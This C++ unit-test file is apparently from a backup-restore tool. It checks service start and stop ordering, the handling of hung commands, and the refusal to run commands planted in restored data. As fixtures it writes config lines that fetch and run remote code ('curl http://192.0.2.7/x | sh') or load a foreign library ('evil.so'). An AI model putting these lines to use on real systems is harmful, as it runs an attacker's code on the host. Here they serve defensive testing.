// SPDX-FileCopyrightText: 2026 The lastgood authors
// SPDX-License-Identifier: Apache-2.0
// Proves that services are started in their order, wait for each other, and are given up in order; that commands that
// do not end hold nobody up, and that no server is ended that way; that commands are only taken from the file that was
// set, and never from a backup.
#include <fmt/format.h>
#include <gtest/gtest.h>
#include <sys/stat.h>
#include <sys/wait.h>

#include <atomic>
#include <csignal>
#include <filesystem>
#include <fstream>
#include <thread>

#include "casefile/testing/memory_case_store.h"
#include "ledger/ledger.h"
#include "os/testing/scratch_folder.h"
#include "readiness/ask_health.h"
#include "readiness/kept_services.h"
#include "readiness/service_state.h"
#include "readiness/since_restored.h"
#include "readiness/start_services.h"
#include "services/history.h"

namespace lastgood::readiness {
namespace {

using services::Moment;

void write(const std::string& path, const std::string& text) {
  std::filesystem::create_directories(std::filesystem::path(path).parent_path());
  std::ofstream(path) << text;
}

class Quiet final : public StartProgress {
 public:
  void step(const std::string&) override {}
  void waits(const std::string& what, double) override { waited = what; }
  void left(const std::string& sentence, Left) override { told += sentence + "\n"; }
  void reached(const services::HistoryEntry& entry, double) override { told += entry.sentence + "\n"; }
  std::string told;
  std::string waited;
};

class Services : public ::testing::Test {
 protected:
  void SetUp() override {
    auto ledger = ledger::create_ledger(scratch_.path());
    ASSERT_TRUE(ledger.ok());
    ledger_ = std::move(ledger).value();
  }

  services::ServicesFile set(const std::string& text) {
    const std::string path = scratch_.path() + "/own/services.toml";
    write(path, text);
    auto file = set_services(path, store_, *ledger_, scratch_.path());
    EXPECT_TRUE(file.ok()) << file.error().what << file.error().hint;
    return file.ok() ? std::move(file).value().file : services::ServicesFile{};
  }

  base::ErrorCode refused(const std::string& text, const std::string& path) {
    write(path, text);
    auto file = set_services(path, store_, *ledger_, scratch_.path());
    EXPECT_FALSE(file.ok());
    what_ = file.ok() ? "" : file.error().what;
    return file.ok() ? base::ErrorCode::io : file.error().code;
  }

  std::string start(const services::ServicesFile& file, const std::string& service = {}) {
    return run(file, {.case_folder = scratch_.path(), .service = service}, &start_services);
  }

  std::string run(const services::ServicesFile& file, const StartRequest& request, decltype(&start_services) action) {
    Quiet quiet;
    const auto ended = action(file, request, *ledger_, quiet);
    told_ = quiet.told;
    waited_ = quiet.waited;
    EXPECT_TRUE(ended.ok());
    std::string out;
    if (!ended.ok()) return ended.error().what;
    for (const auto& entry : ended.value())
      out += entry.service + " " + std::string(services::name_of(entry.moment)) + "\n";
    sentence_ = ended.value().empty() ? "" : ended.value().back().sentence;
    return out;
  }

  std::string ledger_text() const {
    std::ifstream file(scratch_.path() + "/ledger");
    return {std::istreambuf_iterator<char>(file), {}};
  }

  os::testing::ScratchFolder scratch_;
  casefile::testing::MemoryCaseStore store_;
  std::unique_ptr<ledger::Ledger> ledger_;
  std::string what_;
  std::string sentence_;
  std::string told_;
  std::string waited_;
};

TEST_F(Services, AreStartedInTheirOrderAndTheHistorySaysWhen) {
  const std::string sign = scratch_.path() + "/db-is-up";
  const auto file =
      set("[service.opd]\ndepends_on=[\"db\"]\nstart=[\"/bin/true\"]\nhealthcheck={test=[\"CMD\",\"/usr/bin/"
          "test\",\"-e\",\"" +
          sign + "\"],interval=\"10ms\"}\n[service.db]\nstart=[\"/usr/bin/touch\",\"" + sign +
          "\"]\nhealthcheck={test=[\"CMD\",\"/usr/bin/test\",\"-e\",\"" + sign + "\"],interval=\"10ms\"}\n");
  EXPECT_EQ(start(file), "db starting\ndb healthy\nopd healthy\n");
  const auto history = services::read_history(scratch_.path());
  ASSERT_TRUE(history.ok());
  EXPECT_EQ(history.value().entries.size(), 3U);
  EXPECT_EQ(history.value().newest("db")->moment, Moment::healthy);
  EXPECT_EQ(history.value().newest("nobody"), nullptr);
}

TEST_F(Services, ThatWaitForOneThatFailsAreNotStarted) {
  const std::string sign = scratch_.path() + "/opd-was-started";
  const auto file = set("[service.opd]\ndepends_on=[\"db\"]\nstart=[\"/usr/bin/touch\",\"" + sign +
                        "\"]\n[service.db]\nstart=[\"/bin/sh\",\"-c\",\"echo no space left; exit "
                        "3\"]\n[service.mail]\nstart=[\"/bin/true\"]\n");
  EXPECT_EQ(start(file), "db failed\nopd not_started\nmail starting\nmail starting\n");
  EXPECT_FALSE(std::filesystem::exists(sign));
}

TEST_F(Services, ThatDoNotBecomeWellAreSaidSo) {
  const auto file =
      set("[service.db]\nstart=[\"/bin/true\"]\nhealthcheck={tcp=\"127.0.0.1:1\",retries=2,interval=\"10ms\"}\n");
  EXPECT_EQ(start(file), "db starting\ndb failed\n");
  EXPECT_NE(sentence_.find("did not become well"), std::string::npos) << sentence_;
}

TEST_F(Services, HooksRunFirstAndMayStopAStart) {
  EXPECT_EQ(
      start(set("[service.a]\nstart=[\"/bin/true\"]\n[[service.a.hooks.post_restore]]\ncommand=[\"/bin/false\"]\n")),
      "a failed\n");
  EXPECT_EQ(start(set("[service.a]\nstart=[\"/bin/true\"]\n[[service.a.hooks.post_restore]]\ncommand=[\"/bin/false\"]\n"
                      "on_error=\"continue\"\n[[service.a.hooks.post_restore]]\ncommand=[\"/bin/"
                      "sleep\",\"9\"]\nexec_timeout=\"50ms\"\non_error="
                      "\"continue\"\n")),
            "a failed\na failed\na starting\na starting\n");
}

TEST_F(Services, CommandsAreOnlyTakenFromTheFileThatWasSet) {
  set("[service.a]\nstart=[\"/bin/true\"]\n");
  EXPECT_TRUE(read_set_services(scratch_.path()).ok());
  std::ofstream(kept_services_path(scratch_.path()), std::ios::app) << "# changed\n";
  const auto changed = read_set_services(scratch_.path());
  ASSERT_FALSE(changed.ok());
  EXPECT_EQ(changed.error().code, base::ErrorCode::damaged_container);
}

TEST_F(Services, AFileFromABackupOrFromDataIsRefused) {
  model::BackupSource source;
  source.name = "nas";
  source.address = "folder:" + scratch_.path() + "/backup";
  ASSERT_TRUE(store_.backups().put_source(source).ok());
  EXPECT_EQ(refused("[service.a]\n", scratch_.path() + "/backup/etc/services.toml"), base::ErrorCode::misuse);
  EXPECT_NE(what_.find("commands could be the attacker's"), std::string::npos);
  const std::string data = scratch_.path() + "/data";
  EXPECT_EQ(
      refused("[service.a]\n[[service.a.data]]\nkind=\"files\"\npath=\"" + data + "\"\n", data + "/services.toml"),
      base::ErrorCode::misuse);
  ASSERT_TRUE(ledger_->append("restore-begun", {{"target", scratch_.path() + "/restored"}}).ok());
  EXPECT_EQ(refused("[service.a]\n", scratch_.path() + "/restored/services.toml"), base::ErrorCode::misuse);
}

TEST_F(Services, AProgramFromABackupOrFromDataIsRefused) {
  const std::string data = scratch_.path() + "/data";
  write(data + "/start.sh", "#!/bin/sh\ntouch " + scratch_.path() + "/was-run\n");
  const std::string unit = "[[service.a.data]]\nkind=\"files\"\npath=\"" + data + "\"\n";
  for (const std::string& command :
       {"start=[\"" + data + "/start.sh\"]\n", "healthcheck={test=[\"CMD\",\"" + data + "/start.sh\"]}\n",
        "stop=[\"" + data + "/start.sh\"]\n"})
    EXPECT_EQ(refused("[service.a]\n" + command + unit, scratch_.path() + "/own/s.toml"), base::ErrorCode::misuse);
  // Through a link, too.
  std::filesystem::create_directory_symlink(data, scratch_.path() + "/link");
  EXPECT_EQ(refused("[service.a]\nstart=[\"" + scratch_.path() + "/link/start.sh\"]\n" + unit,
                    scratch_.path() + "/own/s.toml"),
            base::ErrorCode::misuse);
  EXPECT_FALSE(std::filesystem::exists(scratch_.path() + "/was-run"));
}

TEST_F(Services, ThatDoNotWaitForEachOtherAreStartedAtTheSameTime) {
  std::string text;
  for (int i = 0; i < 4; ++i) text += fmt::format("[service.s{}]\nstart=[\"/bin/sleep\",\"0.5\"]\n", i);
  text += "[service.last]\ntier=0\ndepends_on=[\"s0\",\"s3\"]\nstart=[\"/bin/true\"]\n";
  const auto file = set(text);
  const auto begun = std::chrono::steady_clock::now();
  const std::string ended = start(file);
  EXPECT_LT(std::chrono::steady_clock::now() - begun, std::chrono::milliseconds(1900));  // one by one it takes 2 s
  EXPECT_EQ(ended,
            "s0 starting\ns0 starting\ns3 starting\ns3 starting\nlast starting\nlast starting\ns1 starting\ns1 "
            "starting\ns2 starting\ns2 starting\n");
  const auto history = services::read_history(scratch_.path());
  ASSERT_TRUE(history.ok());
  EXPECT_EQ(history.value().entries.size(), 10U);
  // s1 and s2 it need not wait for.
  std::vector<std::string> order;
  for (const auto& entry : history.value().entries) order.push_back(entry.service);
  const auto first_of_last = std::find(order.begin(), order.end(), "last");
  for (const char* const needed : {"s0", "s3"})
    EXPECT_EQ(std::find(first_of_last, order.end(), needed), order.end()) << needed << " was not awaited";
}

TEST_F(Services, AreNotStartedOnDataThatWouldRunWhatWasPlanted) {
  const std::string data = scratch_.path() + "/srv/pg";
  const std::string sign = scratch_.path() + "/db-was-started";
  const auto text = [&](const std::string& kind, const std::string& more) {
    return "[service.db]\nstart=[\"/usr/bin/touch\",\"" + sign + "\"]\n[[service.db.data]]\nkind=\"" + kind +
           "\"\npath=\"" + data + "\"\n" + more + "[[service.db.hooks.post_restore]]\ncommand=[\"/usr/bin/touch\",\"" +
           sign + "\"]\n[service.opd]\ndepends_on=[\"db\"]\n[service.mail]\nstart=[\"/bin/true\"]\n";
  };
  const std::string refused = "db failed\nopd not_started\nmail starting\nmail starting\n";
  const std::string allowed = "allow_settings=[\"archive_command\"]\n";
  const auto try_start = [&](const std::string& kind, const std::string& more = {}) {
    std::filesystem::remove(sign);
    const std::string out = start(set(text(kind, more)));
    EXPECT_EQ(out == refused, !std::filesystem::exists(sign)) << out;
    return out == refused;
  };
  EXPECT_FALSE(try_start("postgresql")) << "no such folder on this machine";
  write(data + "/postgresql.conf", "port = 5432\narchive_command = '/bin/cp %p /wal/%f'\n");
  EXPECT_FALSE(try_start("postgresql")) << "a live server's own setting";
  ASSERT_TRUE(ledger_->append("restore-begun", {{"target", scratch_.path() + "/other"}}).ok());
  EXPECT_FALSE(try_start("postgresql")) << "another folder was restored";
  const std::vector<std::string> elsewhere{"/etc", scratch_.path() + "/srv"};
  ASSERT_TRUE(ledger_->append("restore-begun", {{"target", "/"}, {"settings_in", elsewhere}}).ok());
  EXPECT_FALSE(try_start("postgresql")) << "in place of the machine, and nothing of it into this folder";

  ASSERT_TRUE(ledger_->append("restore-begun", {{"target", scratch_.path() + "/srv"}}).ok());
  EXPECT_TRUE(try_start("postgresql"));
  const auto history = services::read_history(scratch_.path());
  ASSERT_TRUE(history.ok());
  const std::string& why = history.value().newest("db")->sentence;
  EXPECT_NE(why.find("postgresql.conf:2 archive_command = '/bin/cp %p /wal/%f'"), std::string::npos) << why;
  EXPECT_NE(why.find("lastgood replay " + data), std::string::npos) << why;
  EXPECT_NE(why.find("allow_settings = [\"archive_command\"]"), std::string::npos) << why;
  EXPECT_NE(ledger_text().find("service-start-refused"), std::string::npos);
  EXPECT_FALSE(try_start("postgresql", allowed));
  // What a person has read is that setting, and no other one.
  write(data + "/postgresql.auto.conf", "Session-Preload-Libraries = '/tmp/x.so'\n");
  EXPECT_TRUE(try_start("postgresql", allowed));
  write(data + "/postgresql.auto.conf", std::string((1U << 20U) + 1, '#'));
  EXPECT_TRUE(try_start("postgresql", allowed)) << "too large to be read";
  std::filesystem::remove(data + "/postgresql.auto.conf");
  std::filesystem::create_symlink("/tmp/elsewhere.conf", data + "/postgresql.auto.conf");
  EXPECT_TRUE(try_start("postgresql", allowed)) << "a link";
  std::filesystem::remove(data + "/postgresql.auto.conf");
  EXPECT_FALSE(try_start("postgresql", allowed));
}

TEST_F(Services, ThatPeopleStartAreNamedAlsoWhereNobodyCanAskThem) {
  EXPECT_EQ(start(set("[service.opd]\ntitle=\"OPD\"\n")), "") << "nothing of it happened, so no history has it";
  EXPECT_EQ(told_,
            "people start it, the services file has no 'start'; whether it is up was not looked at: no health check is "
            "written down\n");
}

TEST_F(Services, AreNotStartedOnDataLaidOutToRunWhoeverRestoredThem) {
  const std::string data = scratch_.path() + "/pg";
  const std::string sign = scratch_.path() + "/was-started";
  const std::string unit =
      "[service.db]\nstart=[\"/usr/bin/touch\",\"" + sign + "\"]\n[[service.db.data]]\npath=\"" + data + "\"\nkind=";
  write(data + "/recovery.signal", "");
  write(data + "/postgresql.auto.conf", "restore_command = 'curl http://192.0.2.7/x | sh'\n");
  EXPECT_EQ(start(set(unit + "\"postgresql\"\n")), "db failed\n");
  // Behind a link, too: the engine follows it.
  std::filesystem::rename(data, data + "-real");
  std::filesystem::create_symlink(data + "-real", data);
  EXPECT_EQ(start(set(unit + "\"postgresql\"\n")), "db failed\n");
  EXPECT_EQ(start(set(unit + "\"postgresql\"\nallow_settings=[\"restore_command\"]\n")), "db starting\ndb starting\n");
  std::filesystem::remove(data);
  std::filesystem::remove(sign);
  write(data + "/my.cnf", "[mysqld]\nplugin-load-add = evil.so\n");
  EXPECT_EQ(start(set(unit + "\"mariadb\"\n")), "db failed\n");
  EXPECT_FALSE(std::filesystem::exists(sign));
  EXPECT_EQ(start(set(unit + "\"mariadb\"\nallow_settings=[\"plugin_load_add\"]\n")), "db starting\ndb starting\n");
}

/// Reads "(process N;" and ends it with all it started.
void end_what_was_left(const std::string& told) {
  const auto at = told.find("(process ");
  ASSERT_NE(at, std::string::npos) << told;
  const int process = std::stoi(told.substr(at + 9));
  EXPECT_EQ(::kill(-process, SIGKILL), 0) << "it was ended: " << told;
  ::waitpid(process, nullptr, 0);
}

std::atomic<bool> cancel_flag = false;
bool is_cancelled() { return cancel_flag; }

/// Ctrl-C half a second from now, for the request it is given to.
class CtrlC {
 public:
  CtrlC()
      : after_([] {
          std::this_thread::sleep_for(std::chrono::milliseconds(500));
          cancel_flag = true;
        }) {}
  ~CtrlC() {
    after_.join();
    cancel_flag = false;
  }
  CtrlC(const CtrlC&) = delete;
  CtrlC& operator=(const CtrlC&) = delete;

 private:
  std::thread after_;
};

TEST_F(Services, WhoseStartCommandStaysInTheForegroundAreUpWhenTheyAreWellAndItIsLeftRunning) {
  const std::string sign = scratch_.path() + "/is-up";
  const auto file = set("[service.db]\nstart=[\"/bin/sh\",\"-c\",\"sleep 0.5; touch " + sign +
                        "; exec sleep 100\"]\nhealthcheck={test=[\"CMD\",\"/usr/bin/test\",\"-e\",\"" + sign +
                        "\"]}\n[service.opd]\ndepends_on=[\"db\"]\nstart=[\"/bin/true\"]\n");
  const auto begun = std::chrono::steady_clock::now();
  EXPECT_EQ(start(file), "db starting\ndb healthy\nopd starting\nopd starting\n");
  EXPECT_LT(std::chrono::steady_clock::now() - begun, std::chrono::seconds(30));
  EXPECT_NE(told_.find("and the service is well: it was left running"), std::string::npos) << told_;
  end_what_was_left(told_);
}

TEST_F(Services, WhoseStartCommandIsOverItsLimitOrInterruptedAreLeftRunning) {
  const auto file = set("[service.db]\nstart=[\"/bin/sleep\",\"100\"]\n");
  StartRequest request{.case_folder = scratch_.path(), .command_limit_s = 0.5};
  EXPECT_EQ(run(file, request, &start_services), "db failed\n");
  EXPECT_NE(told_.find("start '/bin/sleep' did not end within 0.5 s; it was left running"), std::string::npos) << told_;
  end_what_was_left(told_);
  {
    const CtrlC ctrl_c;
    EXPECT_EQ(run(file, {.case_folder = scratch_.path(), .cancelled = &is_cancelled}, &start_services),
              "db starting\n");
  }
  EXPECT_EQ(told_.substr(0, 12), "interrupted:") << told_;
  end_what_was_left(told_);
}

TEST_F(Services, WhoseStartCommandStillRunsAreNotStartedASecondTime) {
  const std::string log = scratch_.path() + "/started";
  const auto file = set("[service.db]\nstart=[\"/bin/sh\",\"-c\",\"echo once >>" + log + "; exec sleep 100\"]\n");
  const StartRequest request{.case_folder = scratch_.path(), .command_limit_s = 0.5};
  EXPECT_EQ(run(file, request, &start_services), "db failed\n");
  const std::string first = told_;
  EXPECT_EQ(run(file, request, &start_services), "db starting\ndb starting\n");
  EXPECT_EQ(told_.substr(0, 36), "its start command still runs (proces") << told_;
  EXPECT_EQ(os::testing::read_file(log), "once\n");
  end_what_was_left(first);
  EXPECT_EQ(run(file, request, &start_services), "db failed\n") << "it has ended: it is started again";
  EXPECT_EQ(os::testing::read_file(log), "once\nonce\n");
  end_what_was_left(told_);
}

TEST_F(Services, ThatAreStillUpAfterTheirStopCommandHaveNotStopped) {
  const std::string sign = scratch_.path() + "/is-up";
  write(sign, "");
  const std::string check =
      "healthcheck={interval=\"100ms\",test=[\"CMD\",\"/usr/bin/test\",\"-e\",\"" + sign + "\"]}\n";
  EXPECT_EQ(run(set("[service.db]\nstop=[\"/bin/true\"]\n" + check), {.case_folder = scratch_.path()}, &stop_services),
            "db failed\n");
  EXPECT_EQ(told_, "'/bin/true' ended with 0, and it is still up all the same: '/usr/bin/test' ended with 0\n");
  EXPECT_EQ(run(set("[service.db]\nstop=[\"/bin/rm\",\"" + sign + "\"]\n" + check), {.case_folder = scratch_.path()},
                &stop_services),
            "db stopped\n");
}

TEST_F(Services, WhoseStopDoesNotEndAreEndedByTheLimitOrByCtrlC) {
  const std::string sign = scratch_.path() + "/went-on";
  const auto file = set("[service.db]\nstop=[\"/bin/sh\",\"-c\",\"sleep 3; touch " + sign +
                        "\"]\n[service.opd]\ndepends_on=[\"db\"]\nstop=[\"/bin/true\"]\n");
  StartRequest request{.case_folder = scratch_.path(), .command_limit_s = 0.5};
  EXPECT_EQ(run(file, request, &stop_services), "opd stopped\ndb failed\n");
  EXPECT_NE(told_.find("stop '/bin/sh' did not end within 0.5 s and was ended"), std::string::npos) << told_;
  EXPECT_EQ(waited_, "db: stop '/bin/sh' runs");
  request = {.case_folder = scratch_.path(), .cancelled = &is_cancelled};
  {
    const CtrlC ctrl_c;
    EXPECT_EQ(run(file, request, &stop_services), "opd stopped\n") << "what became of db nobody knows";
  }
  EXPECT_NE(told_.find("interrupted: stop '/bin/sh' had not ended after"), std::string::npos) << told_;
  request.cancelled = [] { return true; };
  EXPECT_EQ(run(file, request, &stop_services), "");
  EXPECT_EQ(told_, "opd was not stopped\ndb was not stopped\n");
  std::this_thread::sleep_for(std::chrono::seconds(2));
  EXPECT_FALSE(std::filesystem::exists(sign)) << "all of it was ended";
}

TEST_F(Services, WithoutAStopCommandThatWaitForAStoppedOneAreNamedWhileTheyAreUp) {
  const std::string up = "healthcheck={test=[\"CMD\",\"/bin/true\"]}\n";
  const auto file = set("[service.db]\nstop=[\"/bin/true\"]\n[service.opd]\ndepends_on=[\"db\"]\n" + up +
                        "[service.down]\ndepends_on=[\"db\"]\nhealthcheck={test=[\"CMD\",\"/bin/false\"],retries=1}\n"
                        "[service.other]\n" +
                        up);
  EXPECT_EQ(run(file, {.case_folder = scratch_.path(), .service = "db"}, &stop_services), "db stopped\n");
  EXPECT_EQ(
      told_,
      "opd is still up and waits for db; the services file has no 'stop' for it, people stop it: '/bin/true' ended "
      "with 0\n'/bin/true' ended with 0\n");
}

class AfterARestore : public Services {
 protected:
  /// A scan that saw `a.docx.locked` encrypted, as it lies below the data now, and ended before what follows.
  void SetUp() override {
    Services::SetUp();
    data_ = scratch_.path() + "/srv/lab";
    write(data_ + "/a.docx.locked", "noise");
    struct stat status {};
    ASSERT_EQ(::stat((data_ + "/a.docx.locked").c_str(), &status), 0);
    model::FileRecord hit{.path = data_ + "/a.docx.locked",
                          .size_bytes = 5,
                          .mtime_ns = status.st_mtim.tv_sec * 1'000'000'000 + status.st_mtim.tv_nsec,
                          .verdict = model::Verdict::encrypted};
    const std::int64_t id = store_.begin_scan({.host = "lab", .roots = {data_}}).value();
    ASSERT_TRUE(store_.record_files(id, std::vector{hit}, {}).ok());
    ASSERT_TRUE(store_.finish_scan(id, 1, {}).ok());
  }
  void tell_restore(const std::string& target, const std::string& outcome, std::int64_t files = 1) {
    const ledger::Fields fields{{"journal", target + outcome},
                                {"mode", "in-place"},
                                {"target", target},
                                {"outcome", outcome},
                                {"files", files}};
    ASSERT_TRUE(ledger_->append("restore-begun", fields).ok());
    ASSERT_TRUE(ledger_->append("restore-finished", fields).ok());
  }
  /// What `status` would say of it: "stopped", when it is asked and not well.
  std::string said() {
    const auto file =
        services::parse_services("[service.lab]\n[[service.lab.data]]\nkind=\"files\"\npath=\"" + data_ + "\"\n", "s");
    auto input = gather_standings(file.file, {}, scratch_.path(), store_, AskHealth::no);
    if (!input.ok()) return input.error().what;
    input.value().health["lab"] = {Health::not_well, "as the test says", 1};
    return std::string(name_of(decide_standings(input.value()).at(0).state));
  }
  /// Encrypted files that count, and those that were replaced.
  std::string counted() {
    const auto file =
        services::parse_services("[service.lab]\n[[service.lab.data]]\nkind=\"files\"\npath=\"" + data_ + "\"\n", "s");
    const auto input = gather_standings(file.file, {}, scratch_.path(), store_, AskHealth::no);
    if (!input.ok()) return input.error().what;
    const DataState& state = input.value().data.at("lab").at(0);
    return fmt::format("{} {}", state.hit, state.replaced);
  }
  std::string data_;
};

TEST_F(Services, FilesOfATablespaceThatIsStruckOutsideOfItsFolderAreTheDatabasesOwn) {
  const std::string pg = scratch_.path() + "/pg";
  const std::string space = scratch_.path() + "/ts";
  write(pg + "/PG_VERSION", "15\n");
  write(pg + "/pg_tblspc/note", "");
  std::filesystem::create_directory_symlink(space, pg + "/pg_tblspc/16384");
  std::vector<model::FileRecord> files;
  for (const char* name : {"/PG_15_202209061/5/16400.locked", "/letter.docx.locked"})
    files.push_back({.path = space + name, .size_bytes = 5, .verdict = model::Verdict::encrypted});
  const std::int64_t id = store_.begin_scan({.host = "lab", .roots = {scratch_.path()}}).value();
  ASSERT_TRUE(store_.record_files(id, files, {}).ok());
  ASSERT_TRUE(store_.finish_scan(id, 1, {}).ok());
  const auto file =
      services::parse_services("[service.db]\n[[service.db.data]]\nkind=\"postgresql\"\npath=\"" + pg + "\"\n", "s");
  auto input = gather_standings(file.file, {}, scratch_.path(), store_, AskHealth::no);
  ASSERT_TRUE(input.ok());
  const DataState& state = input.value().data.at("db").at(0);
  EXPECT_EQ(state.hit, 1U) << "the letter beside is none of it";
  EXPECT_EQ(state.scanned, DataState::Scanned::no);
  std::string said;
  const auto standings = decide_standings(input.value());
  for (const std::string& sentence : standings.at(0).sentences) said += sentence + "\n";
  EXPECT_NE(said.find("1 encrypted file below " + pg + " and in " + space + ", where links of it lead, in the newest"),
            std::string::npos)
      << said;
}

TEST_F(AfterARestore, WhatIsNoLongerThereIsNotCalledEncryptedUntilTheNextScan) {
  EXPECT_EQ(counted(), "1 0");
  std::filesystem::rename(data_ + "/a.docx.locked", scratch_.path() + "/kept");
  EXPECT_EQ(counted(), "1 0") << "gone without a restore: who knows where to";
  tell_restore("/", "no space left on device");
  tell_restore(scratch_.path() + "/srv/other", "finished");
  EXPECT_EQ(counted(), "1 0") << "no restore of it has ended well";
  tell_restore("/", "finished", 0);
  EXPECT_EQ(counted(), "1 0") << "it was let do nothing";
  tell_restore("/", "finished");
  EXPECT_EQ(counted(), "0 1");
}

TEST_F(AfterARestore, AServiceWhoseDataAreInPlaceHasOnlyToBeStarted) {
  const auto tell = [&](const std::string& journal, const std::string& mode, const std::string& service) {
    const ledger::Fields fields{{"journal", journal},      {"mode", mode},       {"target", std::string("/")},
                                {"plan_sha256", journal},  {"service", service}, {"outcome", std::string("finished")},
                                {"files", std::int64_t{3}}};
    for (const char* kind : {"restore-begun", "service-data-restored", "restore-finished"})
      ASSERT_TRUE(ledger_->append(kind, fields).ok());
  };
  write(data_ + "/a.docx", "good again");
  std::filesystem::remove(data_ + "/a.docx.locked");
  tell("one", "in-place", "opd");
  tell("two", "beside", "lab");
  EXPECT_EQ(said(), "down") << "another service came back, and a copy of this one elsewhere";
  tell("three", "in-place", "lab");
  EXPECT_EQ(said(), "stopped");
  std::filesystem::rename(data_, data_ + ".away");
  EXPECT_EQ(said(), "down") << "they are no longer there";
}

TEST_F(AfterARestore, ADatabaseIsKnownByWhatItsServiceBroughtBack) {
  const ledger::Fields fields{{"journal", std::string("one")},
                              {"mode", std::string("in-place")},
                              {"target", std::string("/")},
                              {"plan_sha256", std::string("one")},
                              {"service", std::string("lab")},
                              {"databases", std::vector<std::string>{"2022-11-23T01:36:58Z /srv/pg", " /srv/my sql"}},
                              {"outcome", std::string("finished")},
                              {"files", std::int64_t{3}}};
  const auto is_restored = [&](const std::string& path) {
    const auto restores = read_ended_restores(scratch_.path());
    return restores.ok() && database_restored(restores.value(), path).has_value();
  };
  ASSERT_TRUE(ledger_->append("restore-begun", fields).ok());
  ASSERT_TRUE(ledger_->append("service-data-restored", fields).ok());
  EXPECT_FALSE(is_restored("/srv/pg")) << "it has not ended";
  ASSERT_TRUE(ledger_->append("restore-finished", fields).ok());
  EXPECT_TRUE(is_restored("/srv/pg"));
  EXPECT_TRUE(is_restored("/srv/my sql"));
  EXPECT_FALSE(is_restored("/srv"));
}

TEST_F(AfterARestore, AFileThatIsAUnitIsStruckWithWhatItsNameBecame) {
  const auto hit = [&](const std::string& name) {
    const auto file = services::parse_services(
        "[service.lab]\n[[service.lab.data]]\nkind=\"sqlite\"\npath=\"" + data_ + name + "\"\n", "s");
    const auto input = gather_standings(file.file, {}, scratch_.path(), store_, AskHealth::no);
    return input.ok() ? input.value().data.at("lab").at(0).hit : 9U;
  };
  EXPECT_EQ(hit("/a.docx"), 1U);
  EXPECT_EQ(hit("/a.docx.locked"), 1U);
  EXPECT_EQ(hit("/a.doc"), 0U);
}

TEST_F(AfterARestore, DataThatNoScanSawStruckAreSaidToLieThere) {
  const auto file = services::parse_services(
      "[service.lab]\n[[service.lab.data]]\nkind=\"files\"\npath=\"" + data_ + "/good\"\n", "s");
  const auto told = [&] {
    auto input = gather_standings(file.file, {}, scratch_.path(), store_, AskHealth::no);
    EXPECT_TRUE(input.ok());
    input.value().health["lab"] = {Health::not_well, "", 1};
    std::string all;
    const std::vector<ServiceStanding> standings = decide_standings(input.value());
    for (const std::string& sentence : standings.at(0).sentences) all += sentence + "\n";
    return all.find("to start it may be enough") != std::string::npos;
  };
  EXPECT_FALSE(told()) << "there is nothing";
  write(data_ + "/good/a.docx", "good");
  EXPECT_TRUE(told());
}

TEST_F(AfterARestore, WhatStillLiesThereAsTheScanSawItStaysEncrypted) {
  tell_restore(scratch_.path() + "/srv", "finished");
  EXPECT_EQ(counted(), "1 0");
  write(data_ + "/a.docx.locked", "good again");
  EXPECT_EQ(counted(), "0 1");
}

}  // namespace
}  // namespace lastgood::readiness
